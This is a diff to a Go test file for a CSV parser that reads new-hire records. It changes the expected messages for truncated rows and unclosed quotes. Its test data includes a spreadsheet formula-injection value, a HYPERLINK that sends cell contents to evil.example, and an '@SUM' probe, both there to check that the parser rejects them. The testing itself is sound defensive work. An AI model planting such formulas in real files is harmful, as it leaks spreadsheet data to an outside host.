@@ -100,7 +100,8 @@ func TestReadHiresSamples(t *testing.T) {
 			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
 		},
 	}, {
-		// Google Sheets: LF, no BOM, no line end after the last row, snake_case headers.
+		// Google Sheets: LF, no BOM, no line end after the last row, snake_case headers. A file
+		// may be cut short where it has no line end: its last row is never taken.
 		file: "google-sheets.csv",
 		want: []onboard.Hire{
 			{Line: 2, Employee: emp("李", "小龙", "xiaolong.li@example.cn", "软件工程师", "2025-05-05")},
@@ -110,7 +111,7 @@ func TestReadHiresSamples(t *testing.T) {
 		},
 		prob: []onboard.RowProblem{
 			{Line: 5, Email: "'@SUM(A1:A2)", Reason: "email: not a valid email address"},
-			{Line: 7, Email: "khai.nguyen@EXAMPLE.com", Reason: "email: used again (first on line 6)", Duplicate: true},
+			{Line: 7, Email: "khai.nguyen@EXAMPLE.com", Reason: "the file ends inside this row (no line ending): it may be cut short; end the file with a line break and drop it again"},
 		},
 	}, {
 		// Excel 2008 for Mac: lone CRs, also inside a cell.
@@ -296,7 +297,7 @@ func TestReadHiresRowProblems(t *testing.T) {
 	// On the last line, without a line end, too.
 	t.Run("quote never closed at the end", func(t *testing.T) {
 		h, p, err := onboard.ReadHires(strings.NewReader(header+`Ada,"Lovelace,ada@example.com,,2025-01-06`), onboard.HireOptions{})
-		checkHires(t, h, p, err, nil, []onboard.RowProblem{{Line: 2, Reason: `quotes: a quoted cell is not closed properly (text after its closing ", or no closing ")`}})
+		checkHires(t, h, p, err, nil, []onboard.RowProblem{{Line: 2, Reason: "the file ends inside a quoted cell of this row (its closing quote is missing): it may be cut short; close the quote, end the file with a line break and drop it again"}})
 	})
 }
 
